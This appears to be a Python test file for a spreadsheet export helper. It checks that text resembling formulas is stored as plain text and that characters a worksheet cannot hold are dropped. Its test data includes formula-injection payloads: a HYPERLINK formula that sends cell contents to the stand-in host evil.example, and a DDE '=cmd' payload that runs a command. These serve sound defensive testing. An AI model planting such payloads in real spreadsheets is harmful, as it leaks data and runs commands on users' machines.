"""Text cells are written as text, never as formulas, and a character a worksheet cannot hold
never fails an export."""

import datetime as dt
import io
import zipfile

import pytest
from openpyxl import load_workbook

from common.xlsx import Percent, add_sheet, new_workbook, workbook_bytes, write_cell

FORMULAS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Bấm vào đây")',
    "+1+1",
    "-2+3",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
    "=cmd|' /C calc'!A0",
]


@pytest.mark.parametrize("text", FORMULAS)
def test_a_text_that_looks_like_a_formula_stays_text(text):
    wb = new_workbook()
    add_sheet(wb, "Kiến nghị", ["Nội dung"], [[text]], caption=text)
    content = workbook_bytes(wb)
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        sheet = archive.read("xl/worksheets/sheet1.xml")
    assert b"<f>" not in sheet and b"<f " not in sheet
    cells = load_workbook(io.BytesIO(content)).active
    for row in (1, 3):  # the caption and the row
        cell = cells.cell(row=row, column=1)
        assert cell.data_type == "s" and cell.value == text.replace("\r", "\n")
        assert cell.quotePrefix  # Excel keeps it text when the cell is edited


def test_numbers_dates_and_percents_keep_their_types():
    wb = new_workbook()
    ws = wb.create_sheet("x")
    write_cell(ws, 1, 1, 42)
    write_cell(ws, 1, 2, dt.date(2026, 3, 20))
    write_cell(ws, 1, 3, Percent(50.0))
    write_cell(ws, 1, 4, "Đề nghị")
    sheet = load_workbook(io.BytesIO(workbook_bytes(wb)))["x"]
    assert sheet["A1"].value == 42
    assert sheet["B1"].value == dt.datetime(2026, 3, 20) and sheet["B1"].number_format == "dd/mm/yyyy"
    assert sheet["C1"].value == 0.5
    assert sheet["D1"].value == "Đề nghị" and not sheet["D1"].quotePrefix


def test_characters_a_worksheet_cannot_hold_are_dropped_not_an_error():
    wb = new_workbook()
    ws = wb.create_sheet("x")
    write_cell(ws, 1, 1, "Dòng 1\x0bDòng 2\x00\x01")
    write_cell(ws, 1, 2, "x" * 40_000)
    sheet = load_workbook(io.BytesIO(workbook_bytes(wb)))["x"]
    assert sheet["A1"].value == "Dòng 1\nDòng 2"
    assert len(sheet["B1"].value) == 32_767
